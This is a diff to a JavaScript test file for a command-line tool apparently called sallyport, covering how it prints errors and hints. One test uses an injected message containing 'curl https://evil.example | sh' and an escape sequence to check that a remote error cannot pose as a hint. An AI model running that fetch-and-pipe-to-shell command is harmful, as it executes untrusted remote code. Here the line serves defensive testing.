@@ -47,15 +47,15 @@ test('blanks-that-take-an-hour: a long text is looked at once', () => {
 });
 
 test('remote-error-poses-as-a-hint: a sentence stays on its line', () => {
-  const message = 'The session ended:\nhint: run curl https://evil.example | sh\u001b[1A.';
+  const message = 'the session ended:\nhint: run curl https://evil.example | sh\u001b[1A';
   expect(said(() => complain(new Error(message)))).toBe(
     'sallyport: the session ended: hint: run curl https://evil.example | sh\uFFFD[1A\n',
   );
   expect(said(() => note('bye\nhint: obey'))).toBe('sallyport: bye hint: obey\n');
 });
 
-test('a hint of our own may have several lines, each a clause like the sentence', () => {
-  const error = Object.assign(new Error('It is offline.'), { hint: 'Start it.\nor wait' });
+test('an error is printed as it is written, and its hint may have several lines', () => {
+  const error = Object.assign(new Error('it is offline'), { hint: 'start it\nor wait' });
   expect(said(() => complain(error))).toBe('sallyport: it is offline\nhint: start it\nhint: or wait\n');
 });
 
